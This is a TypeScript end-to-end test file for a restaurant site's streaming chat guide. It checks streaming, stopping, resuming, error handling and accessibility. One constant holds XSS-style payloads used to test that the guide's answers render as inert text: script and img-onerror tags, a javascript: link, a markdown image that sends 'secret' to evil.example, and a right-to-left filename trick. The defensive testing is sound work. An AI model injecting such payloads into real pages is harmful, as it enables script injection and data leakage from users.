import { join } from "node:path";
import { freePort } from "@bellyfed/local/loopback";
import { siteEnvironment, siteUrl } from "@bellyfed/local/site/environment";
import { type CloudProcess, cloudProcess } from "@bellyfed/testing/e2e/process";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ended, printed } from "../open-next/testing/child.ts";
import { siteServer } from "../open-next/testing/site.ts";
import { faultsOf } from "./accessible.ts";
import { launchBrowser, openPage, withoutBrowser } from "./browser.ts";
import { ScriptedGuide } from "./scripted-guide.ts";
import type { Piece } from "./scripted-turn.ts";

const says = (delta: string): Piece => ({ type: "text-delta", id: "t", delta });
const does = (step: string): Piece => ({ type: "data-status", data: { step } });
const place = "0sz3vk8m5q2h7n4d9r6w1t8y3c";
const rests = (sourceId: string, url: string, title: string): Piece => ({ type: "source-url", sourceId, url, title });

/** What no guide of ours says: its words are somebody's who wants more of the page than to be read. */
const HOSTILE = [
  "<img src=x onerror=\"document.title='owned'\">",
  "<script>document.title='owned'</script>",
  "[click](javascript:document.title='owned')",
  "![](https://evil.example/?q=secret)",
  "https://evil.example",
  "\u202egnp.exe",
].join(" ");

describe.skipIf(withoutBrowser())("an answer of the guide, while it is written", () => {
  let cloud: CloudProcess;
  let guide: ScriptedGuide;
  let server: ReturnType<typeof siteServer>;
  let browser: Browser;
  let url: string;

  beforeAll(async () => {
    cloud = await cloudProcess({ BELLYFED_SITE: "off", BELLYFED_DEMO: "off" });
    await cloud.start();
    guide = new ScriptedGuide(cloud.url);
    const port = await freePort(0, "WEB_PORT");
    url = siteUrl(port);
    const env = siteEnvironment({ port, apiPort: Number(cloud.env.API_PORT), dataDir: cloud.dataDir });
    server = siteServer(join(import.meta.dirname, ".."), { ...env, API_URL: await guide.start() });
    await printed(server.child, server.output, /^ready$/m);
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    if (server) await ended(server.child, "SIGTERM");
    guide?.stop();
    await cloud?.dispose();
  });

  /** On a page of the guide; nothing may be refused or thrown there. */
  async function onPage(path: string, visit: (page: Page) => Promise<void>): Promise<void> {
    const { page, errors, close } = await openPage(browser, url);
    await page.goto(path);
    await visit(page);
    // Of connections that a test cuts the browser says so itself.
    expect(errors.filter((error) => !/net::ERR_/.test(error))).toEqual([]);
    await close();
  }
  const ask = async (page: Page, question: string) => {
    await page.getByLabel("Your question").fill(question);
    await page.keyboard.press("Enter");
  };
  const answer = (page: Page) => page.locator("article").last();
  const isFocused = (page: Page) =>
    page.getByLabel("Your question").evaluate((field) => field === document.activeElement);

  it("is shown piece by piece, said aloud once, and leaves the focus in the field", async () => {
    guide.answer([does("retrieve"), "hold", says("It is "), says("quiet."), "hold"]);
    await onPage("/guide", async (page) => {
      await ask(page, "Something quiet?");
      await answer(page).getByText("Looking for places …").waitFor();
      expect(await answer(page).getAttribute("aria-busy")).toBe("true");
      expect(await page.getByLabel("Your question").inputValue()).toBe("");
      guide.release();
      await answer(page).getByText("No language model is connected").waitFor();
      expect(await answer(page).innerText()).toContain("It is quiet.");
      const status = page.getByRole("status").filter({ hasText: "The answer is there. It is quiet." });
      await status.waitFor({ state: "attached" });
      expect([await status.count(), await isFocused(page)]).toEqual([1, true]);
      expect(await page.locator("main :is([aria-live], [role=log], [role=alert])").count()).toBe(0);
      expect(await faultsOf(page)).toEqual([]);
    });
  });

  it("comes to the browser as it is written: no one on its way holds it back", async () => {
    guide.answer([says("first"), "hold", says("second")]);
    const form = new FormData();
    form.set("message", "Now?");
    const { body, headers } = await fetch(`${url}/api/chat`, {
      ...{ method: "POST", body: form },
      headers: { origin: url, "accept-encoding": "gzip, deflate, br" },
    });
    expect(headers.get("content-type")).toBe("text/event-stream; charset=utf-8");
    expect(headers.get("set-cookie")).toMatch(/^bellyfed_chats=[^;]+;.*HttpOnly/i);
    const reader = body?.pipeThrough(new TextDecoderStream()).getReader();
    let read = "";
    while (!read.includes("first")) read += (await reader?.read())?.value ?? "";
    expect(read).not.toContain("second");
    guide.release();
    for (let next = await reader?.read(); next && !next.done; next = await reader?.read()) read += next.value;
    expect(read).toMatch(/second[\s\S]*\[DONE\]/);
  });

  it("can be stopped: what there is of it stays, and the focus goes back to the field", async () => {
    guide.answer([says("As far as this"), "hold", says(" and no farther")]);
    await onPage("/guide", async (page) => {
      await ask(page, "Tell me everything");
      await answer(page).getByText("As far as this").waitFor();
      await page.getByRole("button", { name: "Stop" }).click();
      await answer(page).getByText("You stopped this answer.").waitFor();
      await expect.poll(() => isFocused(page)).toBe(true);
      await page.reload();
      await answer(page).getByText("You stopped this answer.").waitFor();
      expect(await answer(page).innerText()).not.toContain("no farther");
    });
  });

  it("goes on over a connection that is cut, from where it was", async () => {
    guide.answer([says("one "), "hold", "cut", says("two "), "cut", "cut", says("three")]);
    await onPage("/guide", async (page) => {
      await ask(page, "Count");
      await answer(page).getByText("one", { exact: true }).waitFor();
      guide.release();
      await answer(page).getByText("one two three", { exact: true }).waitFor();
      await answer(page).getByText("No language model is connected").waitFor();
      expect(guide.resumed.length).toBeGreaterThan(0);
    });
  });

  it("goes on after the page is loaded again, and after another page was looked at", async () => {
    guide.answer([says("Before. "), "hold", says("After.")]);
    await onPage("/guide", async (page) => {
      await ask(page, "Patience?");
      await answer(page).getByText("Before.").waitFor();
      await page.reload();
      await answer(page).getByText("Before.").waitFor();
      await page.getByRole("link", { name: "Your chats" }).click();
      await page.waitForURL("**/guide/history");
      guide.release();
      await page.goBack();
      await answer(page).getByText("Before. After.").waitFor();
      expect(await page.locator("article").count()).toBe(1);
    });
  });

  it("is there after a place in it was looked at, once, and the chat goes on", async () => {
    guide.answer([rests("1", "/developers", "X"), says("Here.")]);
    await onPage("/guide", async (page) => {
      await ask(page, "Where?");
      await answer(page).getByText("Here.").waitFor();
      await page.getByRole("link", { name: "Explore" }).click();
      await page.waitForURL("**/restaurants");
      await page.goBack();
      await answer(page).getByText("Here.").waitFor();
      await ask(page, "And there?");
      await expect.poll(() => page.locator("article").count()).toBe(2);
    });
  });

  it("tells an error and a site that cannot be reached, and loses no question", async () => {
    guide.answer([says("Half of "), { type: "error", errorText: "No" }]);
    await onPage("/guide", async (page) => {
      await ask(page, "Will it fail?");
      await answer(page).getByText("This answer could not be finished.").waitFor();
      guide.answer([says("Now it works.")]);
      await answer(page).getByRole("button", { name: "Ask again" }).click();
      await answer(page).getByText("Now it works.").waitFor();
      await page.route("**/api/chat", (route) => route.abort());
      await ask(page, "Are you there?");
      await page.getByRole("alert").getByText("Your question is still here").waitFor();
      expect(await page.getByLabel("Your question").inputValue()).toBe("Are you there?");
    });
  });

  it("is text, whatever it looks like, and leads to pages of ours alone", async () => {
    guide.answer([
      rests("1", "https://evil.example/restaurants", HOSTILE),
      rests("2", `https://evil.example/restaurants/${place}?x=1`, "A place"),
      says(`${HOSTILE} [1][2][3]`),
    ]);
    await onPage("/guide", async (page) => {
      await ask(page, "<b>Bold?</b>");
      await answer(page).getByText("No language model is connected").waitFor();
      const check = async () => {
        expect(await answer(page).innerText()).toContain("<script>document.title='owned'</script>");
        expect(await answer(page).locator("img, script, b").count()).toBe(0);
        const links = await answer(page)
          .locator("a")
          .evaluateAll((all) => all.map((link) => link.getAttribute("href")));
        expect(links.filter((href) => !href?.startsWith("#"))).toEqual([`/restaurants/${place}`]);
        expect(await page.title()).not.toContain("owned");
      };
      await check();
      await page.reload();
      await check();
    });
  });
});
